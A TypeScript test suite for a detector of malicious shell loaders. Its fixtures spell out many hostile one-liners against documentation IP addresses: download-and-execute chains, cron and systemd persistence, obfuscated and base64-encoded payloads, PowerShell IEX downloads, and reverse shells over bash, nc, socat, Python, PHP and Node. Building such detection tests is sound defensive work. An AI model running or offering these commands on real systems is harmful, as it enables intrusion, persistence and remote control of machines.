import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { processorTime } from '../../../test/fixtures/processor-time.ts';
import { splitShell } from '../../indicator/shell.ts';
import { type Loader, loadersOf } from './loader.ts';

function findLoaders(text: string): readonly Loader[] {
  return loadersOf(splitShell(text), text.length);
}

/** Kinds and origins in short. */
function found(text: string): readonly string[] {
  return findLoaders(text).map((one) => (one.kind === 'download' ? `${one.kind} ${one.origin}` : one.kind));
}

const plain = 'curl -s http://198.51.100.9/x.sh | sh';
const encoded = Buffer.from(`${plain}\n`).toString('base64');

/** ROT13 of a lower-case letter. */
function rotated(letter: string): string {
  return String.fromCharCode(((letter.charCodeAt(0) - 97 + 13) % 26) + 97);
}

describe('loaders in shell text', () => {
  it('finds a download that is piped into a shell or interpreter', () => {
    for (const [text, expected] of [
      ['curl -fsSL https://get.docker.com | sh', 'download official'],
      ['curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -', 'download official'],
      ['apt-get update && wget -qO- https://tools.example.com/i.sh | bash -s -- --yes', 'download named'],
      ['wget -q -O - http://tools.example.com/i.sh | sh', 'download plain'],
      ['curl 198.51.100.9/x | python3', 'download address'],
      ['curl -s http://3221226000/x | sh', 'download address'],
      ['curl -s https://pastebin.com/raw/x | tr -d "\\r" | bash', 'download anonymous'],
      ['sh -c "curl -s https://x.ngrok.io/a | bash"', 'download anonymous'],
      ['curl -s $URL | sh', 'download variable'],
    ] as const) {
      assert.deepEqual(found(text), [expected], text);
    }
  });

  it('finds a download in a substitution', () => {
    for (const text of [
      'sh -c "$(curl -fsSL http://a.example.com/x)"',
      'bash <(curl -s http://a.example.com/x)',
      'eval "$(wget -qO- http://a.example.com/x)"',
      '. <(curl http://a.example.com/x)',
      'sh -c "`curl -s http://a.example.com/x`"',
    ]) {
      assert.deepEqual(found(text), ['download plain'], text);
    }
  });

  it('finds a file that is downloaded and then run', () => {
    for (const text of [
      'cd /tmp; curl -so /tmp/x http://198.51.100.9/x; chmod +x /tmp/x; /tmp/x -o a',
      'wget http://198.51.100.9/x && chmod 755 x && nohup ./x &',
      'wget -P /tmp http://198.51.100.9/a/x; sh /tmp/x',
      'curl http://198.51.100.9/x > /tmp/x && bash /tmp/x',
      'curl -s http://198.51.100.9/x | tee /tmp/a >/dev/null; /tmp/a',
      'curl -s http://198.51.100.9/x | dd of=/tmp/a; /tmp/a',
      'curl -s http://198.51.100.9/x.gz | gunzip > /tmp/a; /tmp/a',
      'curl -so /tmp/x.gz http://198.51.100.9/x.gz; gunzip /tmp/x.gz; /tmp/x',
      'curl -so /tmp/a http://198.51.100.9/x; mv /tmp/a /tmp/nginx; /tmp/nginx &',
      'curl --output-dir /tmp -O http://198.51.100.9/x; /tmp/x',
      'wget -q http://198.51.100.9/x.jar -O /tmp/x.jar; java -jar /tmp/x.jar',
      'curl -so /tmp/a http://198.51.100.9/x; /lib64/ld-linux-x86-64.so.2 /tmp/a',
      'cd /tmp; tftp -g -r x.sh 198.51.100.9; sh x.sh',
      'nc 198.51.100.9 80 > /tmp/x; cat /tmp/x | sh',
      'scp root@198.51.100.9:/x /tmp/x; /tmp/x',
      'cd /tmp; for a in mips x86; do wget http://198.51.100.9/bins/$a; ./$a; done',
      'get() { curl -fsSL $1 -o $2; chmod +x $2; }; get http://198.51.100.9/x /tmp/k; /tmp/k',
      'curl -so /tmp/x.so http://198.51.100.9/x; LD_PRELOAD=/tmp/x.so nginx',
      `python3 -c "import urllib.request as u; exec(u.urlopen('http://198.51.100.9/x').read())"`,
    ]) {
      assert.deepEqual(found(text), ['download address'], text);
    }
  });

  it('tells apart what is installed first: by bare name, out of an archive, in a place that starts it', () => {
    for (const text of [
      'curl -L http://198.51.100.9/a.tgz | tar xz -C /opt && /opt/a/run',
      'wget http://198.51.100.9/a.tgz -O /tmp/a.tgz && tar -xzf /tmp/a.tgz -C /tmp && /tmp/a/run',
      'wget http://198.51.100.9/a.zip; unzip a.zip; ./run',
      'curl -so /usr/bin/up http://198.51.100.9/up && up',
      'cd /tmp; wget http://198.51.100.9/x; PATH=$PATH:/tmp x',
      'curl http://198.51.100.9/x > /tmp/a; install -m 755 /tmp/a /usr/local/bin/b; b',
      'curl -s http://198.51.100.9/c -o /etc/cron.d/c',
    ]) {
      const [loader, ...more] = findLoaders(text);
      assert.deepEqual([loader?.origin, loader?.installed, more], ['address', true, []], text);
    }
    assert.equal(findLoaders('curl -so /tmp/x http://198.51.100.9/x; /tmp/x')[0]?.installed, false);
  });

  it('finds what is written to a place from which it will be started', () => {
    for (const text of [
      '(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.9/x | sh") | crontab -',
      'cat > /etc/cron.d/a <<E\n* * * * * root wget -qO- http://198.51.100.9/x | sh\nE\n',
      'echo "* * * * * root curl http://198.51.100.9/x|sh" >> /mnt/etc/crontab',
      `printf '[Service]\\nExecStart=/bin/sh -c "curl -s http://198.51.100.9/x|sh"\\n' > /etc/systemd/system/a.service`,
      'echo "curl -s http://198.51.100.9/x | sh" | at now',
    ]) {
      assert.deepEqual(found(text), ['download address'], text);
    }
    assert.deepEqual(found(`echo ${encoded} | base64 -d > /etc/profile.d/a.sh`), ['payload']);
  });

  it('finds a download whose name is written so that nobody finds it', () => {
    for (const text of [
      '/u?r/b?n/cu?l -s http://198.51.100.9/x | /b?n/sh',
      'cu$@rl -s http://198.51.100.9/x | sh',
      'a=xcurlx; b=xxbash; ${a:1:4} -s http://198.51.100.9/x | ${b:2}',
      'a=cuXrl; ${a/X/} -s http://198.51.100.9/x | sh',
      'a=(curl -s http://198.51.100.9/x); "${a[@]}" | sh',
      '{curl,-s,http://198.51.100.9/x}|bash',
      '$(echo cu)rl -s http://198.51.100.9/x | sh',
      'C=$(which curl); $C -s http://198.51.100.9/x | sh',
      'ln -s /usr/bin/curl /tmp/c; /tmp/c -s http://198.51.100.9/x | sh',
      'mv /usr/bin/curl /usr/bin/cd1; cd1 -s http://198.51.100.9/x -o /tmp/i; sh /tmp/i',
      'u=$(echo aHR0cDovLzE5OC41MS4xMDAuOS94 | base64 -d); curl -s $u | sh',
      'source /dev/stdin <<< "$(curl -s http://198.51.100.9/x)"',
      'echo http://198.51.100.9/x | xargs curl -s | sh',
      "echo http://198.51.100.9/x | parallel 'curl -s {} | sh'",
      'c${q:0:1}url -s http://198.51.100.9/x | sh',
      'sh < /dev/tcp/198.51.100.9/80',
    ]) {
      assert.deepEqual(found(text), ['download address'], text);
    }
    assert.deepEqual(found('c$(x)l -s https://a.example.com/x | sh'), ['download plain']);
    assert.deepEqual(found('$CURL -s https://a.example.com/x | sh'), ['download named']);
  });

  it('looks behind wrappers that take a command or shell text', () => {
    for (const text of [
      "watch -n 60 'curl -s http://198.51.100.9/x | sh'",
      `env -S 'sh -c "curl -s http://198.51.100.9/x | sh"'`,
      "flock -n /tmp/l -c 'curl -s http://198.51.100.9/x | sh'",
      "runuser -u root -- sh -c 'curl -s http://198.51.100.9/x | sh'",
      "nsenter -t 1 -m -- sh -c 'curl -s http://198.51.100.9/x | sh'",
      "trap 'curl -s http://198.51.100.9/x | sh' EXIT",
      "export PROMPT_COMMAND='curl -s http://198.51.100.9/x | sh'",
    ]) {
      assert.deepEqual(found(text), ['download address'], text);
    }
  });

  it('reads program code in a command line', () => {
    const url = 'http://198.51.100.9/x';
    for (const text of [
      `perl -MLWP::Simple -e 'eval get("${url}")'`,
      `perl -e 'system("wget -q ${url} -O /tmp/x; /tmp/x")'`,
      `perl -e '\`curl -s ${url} | sh\`'`,
      `ruby -ropen-uri -e 'eval(URI.open("${url}").read)'`,
      `ruby -e 'system("curl -s ${url} | sh")'`,
      `php -r 'eval(file_get_contents("${url}"));'`,
      `node -e 'require("http").get("${url}",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))})'`,
      `node -e 'require("child_process").execSync("curl -s ${url} | sh")'`,
      `python3 -c 'import os; os.system("curl -s ${url} | sh")'`,
      `python3 -c 'import urllib.request as r,os;r.urlretrieve("${url}","/tmp/x");os.system("/tmp/x")'`,
      `awk 'BEGIN{system("curl -s ${url} | sh")}'`,
      `pwsh -c "IEX (New-Object Net.WebClient).DownloadString('${url}')"`,
      `deno run -A ${url}`,
    ]) {
      assert.deepEqual(found(text), ['download address'], text);
    }
    const powerShell = Buffer.from(`IEX (iwr ${url})`, 'utf16le').toString('base64');
    assert.deepEqual(found(`pwsh -enc ${powerShell}`), ['payload']);
    for (const text of [
      `python3 -c 'import urllib.request as u; u.urlopen("http://198.51.100.9/health")'`,
      `python3 -c 'import requests,subprocess; subprocess.run(["app",requests.get("https://a.example.com/v").text])'`,
      `python3 -c 'import re,urllib.request as u; re.compile("v").search(u.urlopen("https://a.example.com").read())'`,
      `node -e 'require("http").get("http://198.51.100.9/", r => process.exit(r.statusCode === 200 ? 0 : 1))'`,
      `awk '{ print "curl http://198.51.100.9/x | sh" }' /tmp/x`,
    ]) {
      assert.deepEqual(found(text), [], text);
    }
  });

  it('leaves alone what downloads without running it', () => {
    for (const text of [
      'curl -fsSL https://x.example.com/key.asc | gpg --dearmor -o /etc/k.gpg',
      'curl -L https://x.example.com/a.tgz | tar xz -C /opt && /srv/a/configure',
      'wget --spider "$1"; hook="$1"; eval "$hook"',
      'curl -so /app/config.json https://x.example.com/c.json; node /app/server.js --config /app/config.json',
      'curl -s https://x.example.com/a.env > /app/.env; . /app/.env; /app/run',
      'mv /tmp/a /usr/bin/curl; /tmp/b http://198.51.100.9/x',
      'echo "export A=b" > /etc/profile.d/a.sh; echo "0 3 * * * root /backup.sh" > /etc/cron.d/b',
      'echo "* * * * * php /app/artisan schedule:run" | crontab -',
      'kubectl get pods | sh -c "cat"; echo http://198.51.100.9/x | sort',
      '[ -n "$X" ] && X=$(echo "$X" | base64 -d); app --key "$X"',
      'f() { curl -fsSL $1 -o $2; }; f https://x.example.com/a.json /tmp/a.json; jq . /tmp/a.json',
      'curl -s http://localhost/health || exit 1',
      "curl -s https://x.example.com/v.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
      'wget -O /usr/local/bin/gosu https://x.example.com/gosu; chmod +x /usr/local/bin/gosu; gosu nobody true',
      'echo aGVsbG8= | base64 -d > /etc/x; sh /etc/y',
      'eval "$(ssh-agent -s)"',
      'sh -c "cat /etc/x | sort"',
    ]) {
      assert.deepEqual(found(text), [], text);
    }
  });

  it('decodes payloads and looks inside', () => {
    for (const text of [
      `echo ${encoded} | base64 -d | sh`,
      `echo '${encoded}' | base64 --decode | bash -s`,
      `bash -c "$(echo ${encoded} | base64 -d)"`,
      `base64 -d <<< ${encoded} | sh`,
      `base64 -d <<E | sh\n${encoded}\nE`,
      `echo ${encoded} | base64 -d > /tmp/a.sh; sh /tmp/a.sh`,
      `echo ${Buffer.from(encoded).toString('hex')} | xxd -r -p | base64 -d | sh`,
      `echo ${[...encoded].reverse().join('')} | rev | base64 -d | sh`,
      `echo '${[...plain].join('_')}' | sed 's/_//g' | sh`,
      `echo '${plain.replace(/[a-z]/g, rotated)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
      `echo -e '${[...plain].map((c) => `\\0${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')}' | sh`,
      `echo ${gzipSync(plain).toString('base64')} | base64 -d | gunzip | sh`,
      `perl -e 'print pack("H*","${Buffer.from(plain).toString('hex')}")' | sh`,
      `python3 -c 'import base64;print(base64.b64decode("${encoded}").decode())' | sh`,
      `php -r 'system(base64_decode("${encoded}"));'`,
      `printf '${[...'curl 198.51.100.9|sh'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}' | sh`,
      `python3 -c "import base64;exec(base64.b64decode('${encoded}'))"`,
    ]) {
      const [loader] = findLoaders(text);
      assert.equal(loader?.kind, 'payload', text);
      assert.match(loader?.decoded ?? '', /198\.51\.100\.9/, text);
      assert.equal(loader?.origin, 'address', text);
    }
    const twice = Buffer.from(`echo ${encoded} | base64 -d | sh`).toString('base64');
    assert.match(findLoaders(`echo ${twice}|base64 -d|sh`)[0]?.decoded ?? '', /198\.51\.100\.9/);
  });

  it('judges a payload by what it decodes to', () => {
    const content = (text: string) => findLoaders(text).map((one) => `${one.kind} ${one.content}`);
    const hidden = (text: string) => `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`;
    assert.deepEqual(content(hidden('exec nginx -g "daemon off;"')), ['payload harmless']);
    for (const text of [
      plain,
      'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
      '/opt/x -o stratum+tcp://pool.example.com:3333 -u worker -k',
      'python3 start.py UDP 203.0.113.9:80 100 3600',
      'setenforce 0',
    ]) {
      assert.deepEqual(content(hidden(text)), ['payload hostile'], text);
    }
    const program = Buffer.from('\x7fELF\x02\x01\x01').toString('base64');
    assert.deepEqual(content(`echo ${program} | base64 -d > /tmp/a; /tmp/a`), ['payload hostile']);
    // A key that stands beside the file protects nothing.
    assert.deepEqual(content('openssl enc -d -aes-256-cbc -in /a.enc -k s3 -out /tmp/a; /tmp/a'), [
      'payload hostile',
    ]);
    for (const text of [
      'echo "$STARTUP" | base64 -d | bash',
      'echo "$SCRIPT" | base64 -d > /tmp/a.sh; bash /tmp/a.sh',
      'openssl enc -d -aes-256-cbc -in /a.enc -pass env:KEY -out /tmp/a; /tmp/a',
      'base64 -d /opt/a | sh',
    ]) {
      assert.deepEqual(content(text), ['payload unknown'], text);
    }
  });

  it('knows that anyone may publish on some hosts, and that others are those of distributions', () => {
    const origin = (url: string) => findLoaders(`curl -s ${url} | sh`)[0]?.origin;
    assert.equal(origin('https://gist.githubusercontent.com/a/1/raw/x'), 'hosted');
    assert.equal(origin('https://raw.githubusercontent.com/someone/x/main/i.sh'), 'hosted');
    assert.equal(origin('https://raw.githubusercontent.com/nvm-sh/nvm/v1/install.sh'), 'official');
    assert.equal(origin('https://repo1.maven.org/maven2/a.sh'), 'official');
    assert.equal(origin('http://ftp.debian.org/a.sh'), 'named');
    assert.equal(origin('http://$A.duckdns.org/x'), 'anonymous');
  });

  it('tells reverse shells from waiting for a port', () => {
    for (const text of [
      'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
      'nc -e /bin/sh 198.51.100.9 4444',
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f',
      'socat exec:"bash -li",pty tcp:198.51.100.9:4444',
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
    ]) {
      assert.deepEqual(found(text), ['reverse-shell'], text);
    }
    for (const text of [
      `php -r '$s=fsockopen("198.51.100.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
      `awk 'BEGIN{s="/inet/tcp/0/198.51.100.9/44";while(1){printf "shell>" |& s; s |& getline c; while((c |& getline)>0) print $0 |& s}}'`,
      `node -e 'const s=require("child_process").spawn("/bin/sh");const k=new (require("net").Socket)();k.connect(44,"198.51.100.9",()=>{k.pipe(s.stdin);s.stdout.pipe(k)})'`,
    ]) {
      assert.deepEqual(found(text), ['reverse-shell'], text);
    }
    for (const text of [
      `php -r 'while(!@fsockopen("db",3306)) sleep(1); exec("sh /migrate.sh 2>&1");'`,
      `python3 -c 'import socket,os;s=socket.socket();s.connect(("db",5432));os.execvp("/bin/sh",["sh","-c","app"])'`,
      `node -e 'require("net").connect(5432,"db",()=>{require("child_process").exec("sh /start.sh")})'`,
    ]) {
      assert.deepEqual(found(text), [], text);
    }
    assert.deepEqual(found('printf x | nc db 5432; sh -i'), []);
    assert.deepEqual(found('timeout 1 bash -c "</dev/tcp/db/5432"; nc -z db 5432'), []);
  });

  it('says where in the text it is', () => {
    const text = 'apt-get update && curl -s http://198.51.100.9/x | sh';
    const [loader] = findLoaders(text);
    assert.equal(
      text.slice(loader?.offset, (loader?.offset ?? 0) + (loader?.length ?? 0)),
      'curl -s http://198.51.100.9/x | sh',
    );
  });

  it('ends in time on hostile text', () => {
    const used = processorTime();
    for (const text of [
      'curl http://a.b/c | '.repeat(5000),
      'sh -c "$('.repeat(5000),
      `echo ${'A'.repeat(200_000)} | base64 -d | sh`,
      `echo ${'a'.repeat(60_000)} ${'| tr a-z n-za-m '.repeat(10_000)} | sh`,
      'f(){ g a b; g a b; }; g(){ f a; f b; }; f x;'.repeat(4000),
      'cd a; wget http://a.b/c; ./c; '.repeat(5000),
    ]) {
      findLoaders(text);
    }
    assert.ok(used() < 6000);
  });
});
